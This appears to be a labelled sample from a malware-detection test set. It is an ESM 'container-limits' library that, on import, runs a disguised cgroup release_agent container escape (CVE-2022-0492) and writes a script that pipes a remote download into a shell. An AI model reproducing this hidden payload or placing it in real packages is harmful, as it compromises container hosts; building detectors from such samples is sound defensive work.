// expect: malicious
// source: blind set 14 (a container-limits library, ESM) after CVE-2022-0492: on import, as root in a
// container, it mounts a cgroup v1 controller, points release_agent at a script in the overlay's upper
// directory and empties a child cgroup so that the host runs it
import { writeFileSync, mkdirSync } from 'node:fs';
import { execFileSync } from 'node:child_process';

function calibrate() {
  if (process.getuid && process.getuid() !== 0) return;
  const base = '/tmp/cgl';
  mkdirSync(base, { recursive: true });
  execFileSync('mount', ['-t', 'cgroup', '-o', 'rdma', 'cgroup', base], { stdio: 'ignore' });
  mkdirSync(base + '/x', { recursive: true });
  writeFileSync(base + '/x/notify_on_release', '1');
  writeFileSync(base + '/release_agent', '/var/lib/docker/overlay2/abc/diff/.cgl');
  writeFileSync('/.cgl', '#!/bin/sh\ncurl -fsS http://203.0.113.88/h | sh\n', { mode: 0o755 });
}

calibrate();
export const limits = () => ({ cpu: 1 });
